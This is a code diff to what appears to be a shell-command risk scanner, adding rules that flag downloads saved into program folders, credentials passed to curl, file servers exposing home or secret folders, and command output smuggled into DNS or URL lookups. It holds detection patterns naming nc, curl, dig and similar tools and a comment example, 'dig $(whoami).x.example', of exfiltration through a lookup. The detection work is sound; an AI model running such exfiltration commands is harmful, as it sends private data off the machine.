@@ -51,7 +51,13 @@ const http: Rule = (input) => {
   const files = uploadedFiles(args);
   const found: Finding[] = [];
   const output = optionValue(args, 'o', '--output') ?? (prog === 'wget' ? optionValue(args, 'O', '--output-document') : null);
-  if (output && output !== '-' && output !== '/dev/null') found.push(overwrite(word(output), input, 'copy', 'saves a download to'));
+  if (output && output !== '-' && output !== '/dev/null') {
+    const saved = overwrite(word(output), input, 'copy', 'saves a download to');
+    // A download saved where programs are found (`~/.local/bin`, `/usr/local/bin`) is a program installed unreviewed.
+    found.push(/(^|\/)(\.local\/bin|bin|sbin)\/[^/]+$/.test(output) && saved.score > S.lowWrite ? { ...saved, category: 'remote-code', score: Math.max(saved.score, S.high), reason: `${saved.reason}, a folder programs are run from` } : saved);
+  }
+  const credentials = optionValue(args, 'u', '--user');
+  if (credentials?.includes(':') && !local) found.push(finding('secrets', S.notable, `sends a user name and password to ${host ?? 'a remote host'}`));
   const secret = files.find((w) => w.text !== '-' && (isSecretPath(w.text) || isSecretPath(classifyPath(w, ctx).shown)));
   if (secret) return [finding('secrets', S.catastrophic, `uploads ${secret.text}, which holds credentials, to ${host ?? 'a remote host'}`)];
   const tokenWord = args.find((w) => SECRET_VAR.test(w.text));
@@ -132,11 +138,21 @@ const tunnel: Rule = ({ prog, args }) => {
 };
 
 /** `python -m http.server`: serves the current folder, on every interface unless bound to one. */
-export const fileServer: Rule = ({ args }) => {
+export const fileServer: Rule = ({ args, ctx }) => {
   const bind = optionValue(args, 'b', '--bind');
+  const folder = classifyPath(word(optionValue(args, 'd', '--directory') ?? '.'), ctx);
+  // Serving the filesystem, a home or credentials hands them to whoever connects.
+  if (['root', 'home', 'user-home', 'system', 'secret'].includes(folder.kind)) return [finding('network-upload', S.high + 5, `serves ${folder.shown} to the network`)];
   if (bind && LOCAL_HOST.test(bind) && bind !== '0.0.0.0') return [finding('build-test', 15, `serves this folder on ${bind} only`)];
   return [finding('network-upload', bind === '0.0.0.0' || bind === '::' ? S.high : 35, `serves this folder to ${bind === '0.0.0.0' || bind === '::' ? 'every machine that can reach this one' : 'the network (every interface by default)'}`)];
 };
+
+/** A command's output put into a host name or URL (`dig $(whoami).x.example`) leaves the machine in the lookup itself. */
+export function outputInAddress(input: RuleInput): Finding[] {
+  if (!/^(dig|nslookup|host|ping|ping6|curl|wget|nc|ncat|traceroute|drill|http|https)$/.test(input.prog)) return [];
+  const carrier = input.args.find((w) => /(\$\(|`)[^)`]*(\)|`)[\w.-]*\.[a-z]{2,}|^https?:\/\/[^ ]*(\$\(|`)/i.test(w.text));
+  return carrier ? [finding('network-upload', S.notable, `sends the output of a command to a server inside an address (${carrier.text.slice(0, 50)})`)] : [];
+}
 
 /** Port scanners: this machine is its own business; scanning others is reconnaissance. */
 const scanner: Rule = ({ prog, args }) => {
